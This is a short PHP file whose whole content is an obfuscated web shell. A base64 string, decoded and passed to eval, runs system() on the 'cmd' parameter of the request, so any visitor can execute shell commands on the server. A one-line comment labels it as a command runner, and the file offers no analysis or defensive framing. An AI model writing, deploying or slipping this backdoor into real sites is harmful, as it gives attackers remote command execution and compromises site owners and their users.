<?php
// eval(base64_decode(...)) around a command runner.
$payload = 'c3lzdGVtKCRfR0VUWydjbWQnXSk7';
eval(base64_decode($payload));
